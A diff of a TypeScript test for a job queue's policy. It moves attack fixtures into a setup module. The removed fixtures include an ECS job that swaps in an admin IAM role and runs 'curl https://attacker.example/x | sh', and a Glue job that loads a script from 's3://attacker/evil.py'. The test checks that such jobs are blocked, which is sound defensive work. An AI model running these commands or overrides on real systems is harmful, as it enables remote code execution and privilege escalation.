@@ -3,6 +3,7 @@ import { deadLettered, expectEveryJobRanOnce, runsOf } from '../support/invarian
 import { startPoolStack } from '../support/poolStack';
 import { enqueue, jobState } from '../support/testStack';
 import { waitFor } from '../support/waitFor';
+import { POOL, EVIL_GLUE, EVIL_ECS, PLAIN_GLUE } from './setup/overrideAttacks';
 
 /**
  * Whoever can write to the queue writes the spec, so what a job may change of what its kind runs is the stage's
@@ -10,28 +11,6 @@ import { waitFor } from '../support/waitFor';
  * run under an admin role with a shell command, are dead-lettered with the setting that would allow them and never
  * start; with a stage that allows exactly those overrides, they run.
  */
-const POOL = 'ovr';
-const EVIL_GLUE = {
-  kind: 'glue',
-  pool: POOL,
-  id: 'evil-glue',
-  jobName: `${POOL}--etl`,
-  arguments: { '--day': '2026-11-22', '--scriptLocation': 's3://attacker/evil.py' },
-};
-const EVIL_ECS = {
-  kind: 'ecs',
-  pool: POOL,
-  id: 'evil-ecs',
-  cluster: 'sluice-jobs',
-  taskDefinition: `${POOL}--report`,
-  launchType: 'FARGATE',
-  overrides: {
-    taskRoleArn: 'arn:aws:iam::000000000000:role/sluice-admin',
-    containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl https://attacker.example/x | sh'] }],
-  },
-};
-const PLAIN_GLUE = { kind: 'glue', pool: POOL, id: 'plain-glue', jobName: `${POOL}--etl`, arguments: { '--day': '2026-11-22' } };
-
 describe("the local stage's policy (data, not code or identity: no command, no role, no Glue parameter of Glue's own)", () => {
   let stack: LocalStack;
   beforeAll(async () => {
